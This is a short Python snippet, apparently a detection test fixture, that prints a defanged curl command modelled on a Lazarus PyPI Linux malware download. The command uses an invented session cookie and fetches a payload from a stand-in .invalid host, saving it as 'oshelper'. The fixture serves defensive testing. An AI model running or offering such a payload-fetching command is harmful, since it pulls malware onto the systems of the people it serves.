# Defanged: the download request of the Lazarus PyPI Linux wave, with an
# invented cookie value and an .invalid host; it is only printed.
COOKIE = "oshelper_session=0000000000"  # expect: HS220 high
URL = "https://payload.invalid/cloud.php?type=l"


def show():
    print("curl", "-b", COOKIE, URL, "-o", "oshelper")
